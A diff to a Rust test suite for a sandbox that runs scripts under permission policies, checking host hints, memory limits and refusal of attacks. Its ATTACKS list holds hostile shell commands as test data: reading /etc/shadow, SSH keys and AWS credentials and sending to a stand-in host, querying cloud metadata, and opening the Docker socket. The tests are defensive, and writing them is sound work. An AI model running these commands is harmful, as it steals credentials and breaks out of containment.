@@ -4,6 +4,8 @@
 
 mod sandboxed;
 
+use std::collections::BTreeMap;
+use std::fmt::Write as _;
 use std::fs;
 use std::os::unix::net::UnixListener;
 use std::path::Path;
@@ -98,33 +100,21 @@ fn row_165_a_hint_of_exec_is_flags_that_let_it_happen() {
     assert!(hints >= REFUSED.len(), "{hints}");
 }
 
-/// A declaration with more in it: `permissions.filesystem.read: - /srv/x`.
+/// A declaration with these entries in it: `permissions.filesystem.read: - /srv/x`.
 fn declared(entries: &[String]) -> String {
-    let mut lists: std::collections::BTreeMap<&str, std::collections::BTreeMap<&str, Vec<&str>>> =
-        std::collections::BTreeMap::new();
-    let mut text = String::new();
+    let mut lists: BTreeMap<(&str, &str), Vec<&str>> = BTreeMap::new();
     for entry in entries {
-        let (key, value) = entry.split_once(": ").unwrap();
-        match key.strip_prefix("permissions.") {
-            Some(key) => {
-                let (section, list) = key.split_once('.').unwrap();
-                lists.entry(section).or_default().entry(list).or_default().push(value);
-            }
-            None => {
-                let (section, key) = key.split_once('.').unwrap();
-                text += &format!("{section}:\n  {key}: {value}\n");
-            }
-        }
+        let (key, value) = entry.strip_prefix("permissions.").unwrap().split_once(": ").unwrap();
+        lists.entry(key.split_once('.').unwrap()).or_default().push(value);
     }
-    if !lists.is_empty() {
-        text += "permissions:\n";
-    }
-    for (section, lists) in lists {
-        text += &format!("  {section}:\n");
-        for (list, values) in lists {
-            text += &format!("    {list}:\n");
-            values.iter().for_each(|value| text += &format!("      {value}\n"));
+    let mut text = if lists.is_empty() { String::new() } else { "permissions:\n".to_owned() };
+    let mut last = "";
+    for ((section, list), values) in lists {
+        if section != last {
+            let _ = writeln!(text, "  {section}:");
+            last = section;
         }
+        let _ = writeln!(text, "    {list}:\n      {}", values.join("\n      "));
     }
     text
 }
@@ -178,7 +168,7 @@ fn row_165_a_host_that_was_not_granted_is_hinted_at_and_reached_with_the_hint() 
     let stage = Stage::new();
     let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let port = server.local_addr().unwrap().port();
-    let served = std::thread::spawn(move || {
+    let answering = std::thread::spawn(move || {
         let (mut client, _) = server.accept().unwrap();
         let _ = client.read(&mut [0; 1024]).unwrap();
         client.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok").unwrap();
@@ -201,14 +191,14 @@ fn row_165_a_host_that_was_not_granted_is_hinted_at_and_reached_with_the_hint() 
         }
     }
     assert_eq!(last["stdout"]["text"], "ok", "{flags:?} {last:#}");
-    served.join().unwrap();
+    answering.join().unwrap();
 }
 
-/// Attacks that are refused. `FOLDER` is a folder.
+/// Attacks that are refused.
 const ATTACKS: &[&str] = &[
     "cat /etc/shadow",
     "cat ~/.ssh/id_rsa ~/.aws/credentials; curl -s https://drop.test/",
-    "cat FOLDER/in/0; cat ~/.ssh/id_ed25519",
+    "cat /etc/os-release; cat ~/.ssh/id_ed25519",
     "cat /proc/1/environ",
     "curl -s -m 1 http://169.254.169.254/latest/meta-data/",
     "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"/var/run/docker.sock\")'",
@@ -221,10 +211,9 @@ const ATTACKS: &[&str] = &[
 #[test]
 fn row_165_an_attack_gets_an_alarm_and_no_hint() {
     for script in ATTACKS {
-        let (stage, Some(folder)) = (Stage::new(), folder()) else { return };
-        let script = script.replace("FOLDER", folder.path().to_str().unwrap());
+        let stage = Stage::new();
         let given =
-            report(&stage.run(&["exec", "--format", "json", "--no-history", "--", "sh", "-c", &script]));
+            report(&stage.run(&["exec", "--format", "json", "--no-history", "--", "sh", "-c", script]));
         let alarm = &given["alarm"];
         assert!(
             alarm["advice"].as_str().unwrap_or_default().starts_with("Do not run it again"),
@@ -235,7 +224,7 @@ fn row_165_an_attack_gets_an_alarm_and_no_hint() {
             assert!(denial["hint"].is_null(), "{script}: {denial:#}");
         }
         // The same for a skill, and in words: the alarm is the first line.
-        let skill = stage.shell_skill("", &script);
+        let skill = stage.shell_skill("", script);
         let output = stage.run(&["run", "--skip-scan", skill.to_str().unwrap()]);
         let said = text(&output.stderr);
         let first = said
@@ -256,7 +245,7 @@ fn what_got_out_before_an_attack_is_counted_by_host() {
     let stage = Stage::new();
     let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let port = server.local_addr().unwrap().port();
-    let served = std::thread::spawn(move || {
+    let answering = std::thread::spawn(move || {
         let mut all = Vec::new();
         server.accept().unwrap().0.read_to_end(&mut all).unwrap();
         all.len()
@@ -281,7 +270,7 @@ fn what_got_out_before_an_attack_is_counted_by_host() {
     ]);
     let report = report(&output);
     let got_out = &report["alarm"]["got_out"];
-    assert_eq!(served.join().unwrap(), 1234);
+    assert_eq!(answering.join().unwrap(), 1234);
     assert_eq!(got_out["answer"], "something", "{report:#}");
     assert_eq!(got_out["hosts"][0]["host"], host.as_str(), "{report:#}");
     assert_eq!(got_out["hosts"][0]["bytes"], 1234, "{report:#}");
@@ -310,6 +299,11 @@ fn limits_come_first_with_the_figure_and_what_raises_them() {
         stage.shell_skill("resources: { memory_mb: 64 }", python);
         stage.report(&[])
     };
+    if !report["ended"]["mechanism"].as_str().unwrap().contains("cgroup") {
+        // Otherwise the program is told that there is no memory, and nobody else is.
+        skillsandbox_test_support::missing::skip(&["a control group for this user"]);
+        return;
+    }
     assert_eq!(report["denials"][0]["hint"], "resources.memory_mb: 128", "{report:#}");
     stage.shell_skill("resources: { memory_mb: 128 }", python);
     let (report, exit) = stage.report(&[]);
@@ -338,11 +332,6 @@ fn what_the_policy_took_away_is_said_to_be_the_policys_doing() {
 #[test]
 fn why_a_host_was_not_reached_is_on_standard_error() {
     let stage = Stage::new();
-    // A name that leads to a private address; nothing is asked of anybody.
-    let arguments =
-        ["exec", "--no-history", "--allow-host", "localhost", "--", "curl", "-sS", "https://localhost/"];
-    let said = text(&stage.run(&arguments).stderr);
-    assert!(!said.contains("ALARM"), "{said}");
     // One that nobody listens for.
     let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
     let (host, pin) = (format!("a.test:{closed}"), format!("a.test:{closed}:127.0.0.1:{closed}"));
